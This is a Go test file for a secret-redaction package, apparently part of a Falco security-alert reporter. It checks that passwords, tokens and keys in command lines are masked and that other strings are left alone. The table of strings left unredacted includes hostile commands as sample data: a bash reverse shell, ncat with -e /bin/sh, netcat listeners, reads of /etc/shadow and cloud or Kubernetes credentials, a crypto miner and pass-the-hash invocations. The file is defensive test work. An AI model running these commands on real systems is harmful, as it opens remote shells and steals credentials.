package redact_test

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/falco-reporter/falco-reporter/internal/redact"
)

// cases are texts with the secrets in them between « and »; what is redacted is what stands
// there, and nothing else.
var cases = []struct {
	kind redact.Kind
	text string
}{
	// Flags of any tool.
	{redact.Password, "app --password «hunter2» --port 80"},
	{redact.Password, "app --password=«hunter2» --port 80"},
	{redact.Password, "app --db-password '«my secret»' run"},
	{redact.Password, "java -jar app.jar -password «hunter2»"},
	{redact.Token, "kubectl --token «k8saws» get pods"},
	{redact.Secret, "app --client-secret=«x7Hq»"},
	{redact.APIKey, "app --api-key «0a1b2c» -v"},
	{redact.APIKey, "mc alias set x --access-key=«minioadmin»"},
	{redact.Password, "gpg --batch --passphrase «tr0ub4dor» -d x.gpg"},
	{redact.Password, "wget --http-user=u --http-password=«p4ss» https://host/f"},
	{redact.Password, "wget --user u --password «p4ss» ftp://host/f"},
	{redact.Password, "cmdkey /user:bob /password:«Winter24»"},
	// Tools.
	{redact.Password, "mysql -u root -p«hunter2» -h db shop"},
	{redact.Password, "/usr/bin/mysqldump -uroot -p'«a b»' --all-databases"},
	{redact.Password, "sh -c mariadb -p«x;9y» < dump.sql"},
	{redact.Password, "mysql -e select 1; select 2 -p«hunter2»"},
	{redact.Password, "mysql -u docker -p«hunter2»"},
	{redact.Password, "mysql -u root -p «Tr0ub4dor&3»"},
	{redact.Password, "mysqladmin -u root password «hunter2»"},
	{redact.Password, "sshpass -p «hunter2» ssh -p 2222 root@10.0.0.5"},
	{redact.Password, "curl -u admin:«hunter2» https://host/"},
	{redact.Password, "curl -sSu 'admin:«hunter2»' https://host/"},
	{redact.Password, "curl --user admin:«hunter2» https://host/"},
	{redact.Password, "curl --proxy-user=me:«hunter2» https://host/"},
	{redact.Cookie, "curl -b «session=abc» https://host/"},
	{redact.Password, "redis-cli -h cache -a «hunter2» ping"},
	{redact.Password, "redis-cli config set requirepass «hunter2»"},
	{redact.Password, "ldapsearch -x -D cn=admin,dc=x -w «hunter2» -b dc=x"},
	{redact.Password, "docker login -u bob -p «hunter2» registry.example.org"},
	{redact.Password, "podman login registry.example.org -u bob --password «hunter2»"},
	{redact.Password, "skopeo copy --src-creds bob:«hunter2» docker://a docker://b"},
	{redact.Password, "openssl enc -aes-256-cbc -passin pass:«hunter2» -in f"},
	{redact.Password, "openssl passwd -6 -salt xy «hunter2»"},
	{redact.Password, "htpasswd -bc /etc/nginx/.htpasswd bob «hunter2»"},
	{redact.Password, "useradd -m -p «hunter2» bob"},
	{redact.PasswordHash, "usermod -p '«$6$salt$Gq5hHk0Zb1Yb1Yb1Yb1Yb1»' root"},
	{redact.Password, "net user bob «Winter24» /add"},
	{redact.Password, "smbclient -U bob%«hunter2» //host/share"},
	{redact.Password, "mongo -u admin -p «hunter2» --authenticationDatabase admin"},
	{redact.Password, "ipmitool -I lanplus -H bmc -U root -P «calvin» chassis status"},
	{redact.Password, "lftp -u bob,«hunter2» ftp://host"},
	{redact.Password, "plink -ssh bob@host -pw «hunter2» id"},
	{redact.Password, "secretsdump.py corp/bob:«hunter2»@10.0.0.5"},
	{redact.Password, `net use z: \\srv\share «hunter2» /user:bob`},
	{redact.Password, "ssh-keygen -t rsa -N «hunter2» -f k"},
	{redact.Token, "ngrok config add-authtoken «2abcDEF»"},
	{redact.Password, "rabbitmqctl add_user bob «hunter2»"},
	{redact.Password, "xfreerdp /v:host /u:bob /p:«hunter2»"},
	{redact.Password, "sh -c echo «hunter2» | sudo -S id"},
	{redact.Password, `bash -c "echo root:«hunter2» | chpasswd"`},
	{redact.Password, "echo '«hunter2»' | docker login -u bob --password-stdin"},
	{redact.Password, "sudo -S id <<< «hunter2»"},
	{redact.Password, `sh -c "mysql -uroot -p«hunter2»" | nc -l -p 4444`},
	{redact.Password, "12:00:00.1: Notice x | process=mysql command=mysql -p«hunter2» terminal=0 container_id=host"},
	{redact.Password, "User “root” ran “mysql -uroot -p«hunter2»” on the host."},
	{redact.Password, "User “root” ran “mysql -uroot -p«hunt» … 2 -h db”."},
	{redact.Password, "docker exec db mysql -p«hunter2»"},
	// Assignments.
	{redact.Password, "PGPASSWORD=«hunter2» psql -h db"},
	{redact.Password, "docker run -e MYSQL_ROOT_PASSWORD=«hunter2» -p 3306:3306 mysql:8"},
	{redact.Password, "export DB_PASS='«my secret»'; run"},
	{redact.Password, "DB_PASSWORD=«abc;9f&3» run"},
	{redact.CloudKey, "AWS_SECRET_ACCESS_KEY=«wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY» aws s3 ls"},
	{redact.CloudKey, "AWS_SECRET_ACCESS_KEY=«/JalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY»"},
	{redact.CloudKey, "aws configure set aws_secret_access_key «wJalrXUtnFEMI»"},
	{redact.Token, "GITHUB_TOKEN_ACME=«0a1b2c3d» gh pr list"},
	{redact.Secret, "env clientSecret=«x7Hq9» run"},
	{redact.Password, "java -Dspring.datasource.password=«hunter2» -jar app.jar"},
	{redact.Password, "kubectl create secret generic db --from-literal=password=«hunter2»"},
	{redact.Password, "mount -t cifs -o user=bob,password=«hunter2»,ro //h/s /mnt"},
	{redact.Credentials, "REDIS_AUTH=«hunter2» ./run"},
	{redact.Password, `{"user":"bob","password":"«hunter2»","n":1}`},
	{redact.Password, `{"password": "«hun\"ter, 2»"}`},
	{redact.Password, `{"log":"{\"password\":\"«hunter2»\",\"a\":1}"}`},
	{redact.Password, `{"env":[{"name":"DB_PASSWORD","value":"«hunter2»"},{"name":"A","value":"b"}]}`},
	{redact.Password, "user: bob\npassword: «hunter»\nhost: db"},
	{redact.Token, "{name: x, token: «abc», n: 1}"},
	{redact.APIKey, "api_key = «0a1b2c3d»"},
	{redact.Password, "'password' => '«hunter2»',"},
	{redact.Password, "data[password]=«hunter2»&go=1"},
	// Headers.
	{redact.Token, "curl -H Authorization: Bearer «abcdefgh» https://host/"},
	{redact.Token, `curl -H "Authorization: Bearer «abcdefgh»" https://host/`},
	{redact.Credentials, "curl -H 'Authorization: Basic «Ym9iOmh1bnRlcjI=»' https://host/"},
	{redact.Token, "-HAuthorization:«abcdefgh»"},
	{redact.Credentials, "Authorization: AWS4-HMAC-SHA256 «Credential=a/b, SignedHeaders=host, Signature=0a»"},
	{redact.APIKey, "curl -H X-Api-Key: «abcdefgh» https://host/"},
	{redact.Token, "curl -H 'X-Auth-Token: «abcdefgh»' https://host/"},
	{redact.Token, "curl --header PRIVATE-TOKEN: «abcdefgh» https://host/"},
	{redact.Cookie, "curl -H Cookie: «session=abc; theme=dark» https://host/"},
	{redact.Cookie, `{"Set-Cookie":"«sid=1; Path=/; HttpOnly»"}`},
	{redact.Token, "sent Bearer «abc123def456» to it"},
	// URLs and connection strings.
	{redact.Password, "git clone https://bob:«hunter2»@github.com/x/y.git"},
	{redact.Password, "psql postgres://app:«p/w0rd»@db:5432/shop?sslmode=disable"},
	{redact.Password, "psql postgres://app:«p@ssw0rd»@db:5432/shop"},
	{redact.Password, "redis://:«hunter2»@cache:6379/0"},
	{redact.Token, "git clone https://x-access-token:«abcdefgh»@github.com/x/y"},
	{redact.Token, "https://«0123456789abcdef01234567»@sentry.io/1"},
	{redact.Token, "curl https://host/a?token=«abcdefgh»&x=1"},
	{redact.Signature, "curl https://acc.blob.core.windows.net/c?sv=2020&sig=«abcdefgh»&se=1"},
	{redact.Signature, "https://b.s3.amazonaws.com/k?X-Amz-Expires=300&X-Amz-Signature=«0a1b2c3d»"},
	{redact.APIKey, "https://maps.example.org/api?key=«abcdefgh»"},
	{redact.Password, "app -dsn root:«hunter2»@tcp(127.0.0.1:3306)/shop"},
	{redact.Password, "Server=db;User Id=sa;Password=«hunter2»;Database=shop"},
	{redact.CloudKey, "AccountName=a;AccountKey=«abcdefgh==»;EndpointSuffix=core.windows.net"},
	{redact.Password, "host=db user=app password=«hunter2» dbname=shop"},
	// Shapes.
	{redact.CloudKey, "aws configure set aws_access_key_id «AKIAIOSFODNN7EXAMPLE»"},
	{redact.Token, "echo «ghp_0123456789abcdefghijABCDEFGHIJ012345» > t"},
	{redact.Token, "echo «glpat-0123456789abcdefghij»"},
	{redact.Token, "echo «xoxb-123456789012-abcdef»"},
	{redact.APIKey, "echo «sk-proj-0123456789abcdefABCDEF»"},
	{redact.CloudKey, "echo «AIzaSyA0123456789abcdefghijklmnopqrstuv»"},
	{redact.Token, "echo «ya29.a0AfH6SMBx»"},
	{redact.Token, "echo «eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_9»"},
	{redact.Token, "echo «npm_0123456789abcdefghijABCDEFGHIJ012345»"},
	{redact.Token, "echo «dckr_pat_0123456789abcdef»"},
	{redact.PasswordHash, "root:«$6$salt$Gq5hHk0Zb1Yb1Yb1Yb1Yb1»:19000:0:99999:7:::"},
	{redact.PrivateKey, "-----BEGIN RSA PRIVATE KEY-----\n«MIIEow\nIBAAKC»\n-----END RSA PRIVATE KEY-----"},
	{redact.PrivateKey, `{"k":"-----BEGIN PRIVATE KEY-----\n«MIIEow\nIBAAKC»\n-----END PRIVATE KEY-----\n"}`},
	{redact.PrivateKey, "echo -----BEGIN OPENSSH PRIVATE KEY----- «b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\nQyNTUx» > k"},
	{redact.PrivateKey, "client-key-data: «LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQ==»"},
	// Statements.
	{redact.Password, "mysql -e CREATE USER bob IDENTIFIED BY '«hunter2»'"},
	{redact.Password, "psql -c ALTER USER bob WITH PASSWORD '«hunter2»'"},
	{redact.Password, "machine host login bob password «hunter2»"},
	// Passwords that look like flags, tools by their positions, and where else an audit found leaks.
	{redact.Password, "sshpass -p«RootPass1» ssh root@h"},
	{redact.Password, "mysqldump -uroot -p«rootpassword» db"},
	{redact.Password, "mysql -uroot -p«MyToken1» db"},
	{redact.Password, "mysql -umytoken -p«hunter2» db"},
	{redact.Password, "7z a -p«TopSecret» a.7z d"},
	{redact.Password, "docker login -p«MyPassword» reg"},
	{redact.Password, "mystery -p«My-Password1» y"},
	{redact.Password, "su - root -c mysql -p«hunter2»"},
	{redact.Password, `sh -c"mysql -p«hunter2» db"`},
	{redact.Password, "runuser -u bob --command=mysql -p«hunter2»"},
	{redact.Password, `{"args":["mysql","-p«hunter2»","db"]}`},
	{redact.Password, `["sshpass","-p","«hunter2»","ssh"]`},
	{redact.Password, "mysqlsh bob:«hunter2»@h:3306"},
	{redact.Password, "mysqlsh --uri bob:«hunter2»@h:3306"},
	{redact.Password, "curl -x bob:«hunter2»@proxy:3128 https://h"},
	{redact.Token, "curl -u «0123456789abcdef0123»: https://h"},
	{redact.Password, "ldapsearch -xw«MyPassword» -b dc=x"},
	{redact.Password, "redis-cli AUTH bob «hunter2» > /tmp/o"},
	{redact.Password, "htpasswd -bn bob «hunter2» > /etc/nginx/.htpasswd"},
	{redact.Password, "rclone config create r webdav url https://h user bob pass «hunter2»"},
	{redact.Password, "rclone obscure «hunter2»"},
	{redact.Password, "mkpasswd -m sha-512 «hunter2»"},
	{redact.Password, "doveadm pw -s SHA512 -p «hunter2»"},
	{redact.Password, "ansible-vault encrypt_string «hunter2» --name x"},
	{redact.Password, "neo4j-admin set-initial-password «hunter2»"},
	{redact.Password, "radtest bob «hunter2» localhost 0 x"},
	{redact.Password, "pdftk in.pdf input_pw «hunter2» output o.pdf"},
	{redact.Password, "samba-tool user create bob «hunter2»"},
	{redact.Password, "iscsiadm -m node -o update -n node.session.auth.password -v «hunter2»"},
	{redact.Password, `wpa_cli set_network 0 psk "«hunter2»"`},
	{redact.Password, "nmcli c modify x 802-1x.password «hunter2»"},
	{redact.Password, `net use \\h\s /user:bob «hunter2»`},
	{redact.Password, "sqlplus scott/«hunter_2» @x.sql"},
	{redact.Password, "sqlplus -s sys/«hunter2»@db as sysdba"},
	{redact.Password, "expdp userid=scott/«hunter_2» full=y"},
	{redact.Password, `usermod -p "$(openssl passwd -1 «hunter2»)" root`},
	{redact.CloudKey, "mc alias set m http://h AK9zzz «hunter2»"},
	{redact.CloudKey, "b2 authorize-account id9 «hunter2»"},
	{redact.Token, "vault operator unseal «hunter-2»"},
	{redact.Token, "vault login «hunter-2»"},
	{redact.Token, "cargo login «hunter2»"},
	{redact.Secret, "vault kv put secret/db k=«hunter2»"},
	{redact.Secret, "flyctl secrets set DB=«hunter2»"},
	{redact.Secret, "kubectl create secret generic n --from-literal=k=«hunter2»"},
	{redact.Secret, "kubectl create secret generic n --from-literal 'k=«my secret»' -o yaml"},
	{redact.Secret, "az keyvault secret set --vault-name v --name n --value «hunter2»"},
	{redact.Secret, "aws ssm put-parameter --name n --type SecureString --value «hunter2»"},
	{redact.PasswordHash, "secretsdump.py -hashes «aad3b435b51404ee:31d6cfe0d16ae931» corp/bob@10.0.0.5"},
	{redact.PasswordHash, "xfreerdp /v:h /u:b /pth:«0123456789abcdef»"},
	{redact.Token, "npm config set //registry.npmjs.org/:_authToken «hunter2»"},
	{redact.Token, "git config --global github.token «hunter2»"},
	{redact.Password, "pulumi config set dbPassword «hunter2» --secret"},
	{redact.Password, "sh -c echo «hunter2» | passwd root"},
	{redact.Password, `printf "«hunter2\nhunter2»" | passwd root`},
	{redact.Password, "printf '%s' '«hunter2»' | cryptsetup luksOpen /dev/sda x"},
	{redact.Password, "yes «hunter2» | sudo passwd bob"},
	{redact.Password, "echo «hunter2» | su - root -c id"},
	{redact.Password, "echo «hunter2» | kinit bob"},
	{redact.Password, "echo «hunter2» | gpg --batch --passphrase-fd 0 -d x"},
	{redact.Password, "echo -n «hunter2» | docker secret create db -"},
	{redact.Password, "chpasswd <<EOF\nroot:«hunter2»\nEOF"},
	{redact.Password, "passwd root <<'EOF'\n«hunter2\nhunter2»\nEOF\nid"},
	{redact.Token, "GITHUB_PAT=«hunter2» gh pr list"},
	{redact.Token, `curl --header=Authorization:Bearer\ «hunter2» h`},
	{redact.Token, "git clone https://«token_123»@host/x"},
	{redact.Token, "git clone https://«abcdefABCDEF0123»@host/x"},
	{redact.Token, "git clone https://«0123456789abcdef0123»:x-oauth-basic@github.com/x"},
	{redact.Password, "git clone https://bob:«p@ss/w0rd»@github.com/x"},
	{redact.Password, "pip install git+https://bob:«hunter2»@github.com/x/y@v1"},
	{redact.Password, "npm i https://bob:«hunter2»@registry/@scope/pkg"},
	{redact.Password, "redis-cli -u redis://:«12#34ab»@h:6379"},
	{redact.Password, "amqp://bob:«a?b@c»@h:5672/"},
	{redact.Token, "curl -d x https://hooks.slack.com/services/T00000000/B00000000/«XXXXXXXXyyyyyyyy0»"},
	{redact.Token, "curl https://discord.com/api/webhooks/123456789/«abcDEF_-123»?wait=true"},
	{redact.Token, "curl https://api.telegram.org/bot123456789:«AAabcdefghijklmnopqrstuvwxyz012345»/sendMessage?chat_id=1"},
	{redact.Password, `expect -c spawn ssh h; expect "*assword:"; send "«hunter2»\r"; interact`},
	{redact.Password, "ftp -n h <<EOF\nuser bob «hunter2»\nEOF"},
}

func TestStringRedacts(t *testing.T) {
	for _, tc := range cases {
		in := strings.NewReplacer("«", "", "»", "").Replace(tc.text)
		head, rest, _ := strings.Cut(tc.text, "«")
		_, tail, _ := strings.Cut(rest, "»")
		want := head + "[redacted " + string(tc.kind) + "]" + tail
		got, found := redact.String(in)
		if got != want || !slices.Equal(found, []redact.Kind{tc.kind}) {
			t.Errorf("%s\n got %s %q\nwant %s", in, got, found, want)
		}
		if again, found := redact.String(got); again != got || found != nil {
			t.Errorf("again: %s\n got %s %q", got, again, found)
		}
		if json.Valid([]byte(in)) && !json.Valid([]byte(got)) {
			t.Errorf("no JSON any more: %s", got)
		}
	}
}

func TestStringRedactsSeveral(t *testing.T) {
	in := `PGPASSWORD=a1b2c3 curl -u u:hunter2 -H "Cookie: s=1" https://x:pass9@h/?token=abcdefgh {"pin_secret":12345}`
	want := `PGPASSWORD=[redacted password] curl -u u:[redacted password] -H "Cookie: [redacted cookie]" https://x:[redacted password]@h/?token=[redacted token] {"pin_secret":"[redacted secret]"}`
	got, found := redact.String(in)
	if diff := cmp.Diff(want, got); diff != "" || len(found) != 6 {
		t.Errorf("found %q (-want +got):\n%s", found, diff)
	}
}

func TestStringRedactsEach(t *testing.T) {
	const want = "[redacted password]"
	for _, form := range []string{
		"(echo %; echo %) | passwd root", "{ echo %; echo %; } | sudo passwd bob", "ipa-server-install -p % -a %", "rclone config create r x pass % pass2 %", "chpasswd <<EOF\na:%\nb:%\nEOF\nid",
	} {
		got, found := redact.String(strings.ReplaceAll(form, "%", "hunter2"))
		if want := strings.ReplaceAll(form, "%", want); got != want || len(found) != 2 {
			t.Errorf("got %s %q\nwant %s", got, found, want)
		}
	}
}

// evidence are texts that stay as they are.
var evidence = []string{
	// The same letters of other tools.
	"nc -l -p 4444", "ncat -lvp 4444 -e /bin/sh", "ssh -p 2222 root@10.0.0.5", "ssh -p2222 mysql", "mkdir -p /tmp/.x/y", "ps -p 1234 -o pid,args",
	"docker run -p 8080:80 --user 1000:1000 nginx", "docker exec mongo nc -l -p 4444", "sudo -u postgres psql -p 5432", "ps -u mysql -p 123",
	"mysql -u root -p shop", "mysql -u root -p", "mysqldump -u root -p --all-databases", "mongo --port 27017 -u admin", "curl -u bob https://host/",
	"curl -sSLo /tmp/x -A agent https://host/x.sh", "tar -pxzf a.tgz", "python3 -u -c import pty", "redis-cli -h cache -n 3 keys *", "xmrig -o pool:3333 -u 44wallet -p x",
	"mysql -e x && nc -p 4444 host", "12:00:00.1: x | container_name=mongo command=nc -l -p 4444 terminal=0", "useradd -m -s /bin/sh bob", "net user", "net user bob * /add",
	"openssl enc -pass env:PW -in f", "openssl req -newkey rsa:2048 -keyout k.pem -passout file:/run/pw", "sshpass -e ssh host", "sshpass -f /run/pw ssh host", "htpasswd /etc/x bob",
	"chpasswd < /tmp/list", "mysql --user=root --password \\\n  --execute=\"SELECT 1\"\n", "passwd root", "getent passwd root", "cat /etc/shadow /etc/passwd", "curl -b jar.txt https://host/", "curl --cookie-jar /tmp/j https://host/",
	// What stands beside the secrets of the tools.
	"docker run -d --name mongo -p 27017:27017 mongo", "docker run --name=mongo -p 127.0.0.1:27017:27017 mongo", "mongo -u admin -p --authenticationDatabase admin",
	"kubectl create configmap n --from-literal=k=v9x", "kubectl delete secret db-token-9x", "kubectl config set-credentials bob9", "sqlplus / as sysdba", "sqlplus /nolog @/opt/x.sql", "sqlplus -s bob@db @x.sql",
	"rman target / cmdfile x.rcv", "expdp directory=/x dumpfile=a/b9.dmp", "secretsdump.py corp/bob@10.0.0.5 -just-dc", "mc ls /tmp/x9", "7z x a.7z -o/tmp/x9", "mysql -u root -p shop < /tmp/x9",
	"mysqldump -u root --all-databases > /tmp/dump9", "htpasswd -n bob > /tmp/x9", "curl -x proxy:3128 https://host", "curl -E cert.pem https://host", "etcdctl --user root get /", "vault kv get secret/db", "vault login -method=userpass username=bob9",
	"su - root -c nc -l -p 4444", "sh -c\"nc -l -p 4444\"", "runuser -u bob --command=nc -l -p 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
	"redis-cli -h 10.0.0.5 config set dir /root/.ssh", "redis-cli config get requirepass", "redis-cli slaveof 10.0.0.9 6379", "npm config get registry", "git config --global credential.helper store9", "aws configure set region eu-west-1",
	"iscsiadm -m node -o update -n node.startup -v automatic9", "kubeadm join h:6443 --discovery-token-ca-cert-hash sha256:0123456789abcdef", "gh secret set NAME", "x.pat=9abc",
	"cat x9 | grep passwd root", "echo root9 | tee /etc/passwd", "echo hello9 | ssh su@host", "cat /etc/passwd | while read x9", "tee /etc/passwd <<EOF\nroot9:x:0:0\nEOF", "expect -c spawn ssh h; expect \"$ \"; send \"id9\\r\"",
	"git clone https://bob2@bitbucket.org/x", "https://x-token-auth@bitbucket.org/x/y", "npm i https://registry.npmjs.org/@scope/pkg", "http://10.0.0.1:8080/a?x=a@b", "curl https://api.telegram.org/",
	// Names that say something else.
	"app --password-file /run/pw", "app --password-file=/run/pw", "app --token-ttl 24h", "app --token-ttl=24h", "X-aws-ec2-metadata-token-ttl-seconds: 21600", "sed -i s/password=.*// f", "xmllint --pass-through 1", "app --pass-through=x1",
	"GLIBC_TUNABLES=glibc.tune.hwcaps=-WAITED,glibc.tune.secrets=2", "SSH_AUTH_SOCK=/tmp/ssh-x/agent.1", "TOKEN_FILE=/x", "TOKEN_FILE=x1y2z3", "key=value", "sort_key=name9",
	"author=alice9", "git commit --author=alice9", "monkey=banana7", "MONKEY=banana7", "keyboard=us", "bypass=9f8e7d", "compass=n0rth", "secretary=al1ce", "tokenizer=bpe32k", "max_tokens=4096",
	"XAUTHORITY=/root/.Xauthority", "SSH_ASKPASS=/usr/bin/ssh-askpass", "AUTH_TYPE=basic9", "ssh -o PasswordAuthentication=no host", "ssh -o PreferredAuthentications=password host",
	"public_key=abc123def", "AWS_ACCESS_KEY_ID=none", "PASS_MAX_DAYS=99999", "kubectl get secrets -n kube-system", "kubectl get secret my-token-x7k2p -o yaml", "kubectl create token default",
	"docker run --secret id=npm,src=/x y", "podman run --secret mysecret9 nginx", "ansible-playbook --ask-pass site.yml", "gh auth login --with-token", "psql --no-password -c x",
	"/var/run/secrets/kubernetes.io/serviceaccount/token", "cat /home/bob/.aws/credentials", "find / -name id_rsa -o -name *.pem", "PWD=/root OLDPWD=/tmp",
	// Values that are none.
	"PASSWORD=", "PASSWORD= run", "PASSWORD='' run", `{"password":""}`, `{"password":null,"token":false}`, "PASSWORD=$PW run", "PASSWORD=${PW} run", `PASSWORD="$PW" run`, "PASSWORD=$(cat /run/pw) run",
	"app --password *** -x", "password=********", "PASSWORD=<NA>", "token: <token>", "password={{ .Values.password }}", "TOKEN=%TOKEN%", "--token=$TOKEN", `curl -H "Authorization: SSWS $OKTA_API_TOKEN" x`,
	"curl -u bob:$PW https://host/", "https://bob:${PW}@host/", "curl -u : --negotiate https://host/", "PASSWORD=/run/secrets/pw", "--private-key ~/.ssh/id_ed25519", "--credentials sa.json", "TOKEN_URL=https://sts/x",
	"PASSWORD=[redacted password]", "grep -r 'BEGIN RSA PRIVATE KEY' /", "grep -r -- -----BEGIN PRIVATE KEY----- /home /root", "-----BEGIN CERTIFICATE-----\nMIIEow\n-----END CERTIFICATE-----",
	// Prose and output lines.
	"The password: nobody knows it.", "Tokens of service accounts, passwords and keys may be read: rotate them.", "passwd: files systemd", "auth required pam_unix.so nullok", "Bearer tokens are sent in clear.",
	"10.0.0.1:5000->10.0.0.2:443", "http://host:80/path@v1", "ssh://git@host/x", "git@github.com:x/y.git", "registry/x:1.2@sha256:9b7cd0f7a8a1", "user=root user_uid=0 command=cat /root/.ssh/authorized_keys terminal=0",
	"disk-0123456789abcdefABCDEF", "npm_config_registry=https://r/ npm_lifecycle_event=build npm_package_version=1.2.3", "echo eyJhIjoxfQ== | base64 -d", "sk-this-is-a-long-name-of-a-thing",
}

func TestStringLeavesEvidence(t *testing.T) {
	for _, in := range evidence {
		if got, found := redact.String(in); got != in || found != nil {
			t.Errorf("%s\n got %s %q", in, got, found)
		}
	}
}
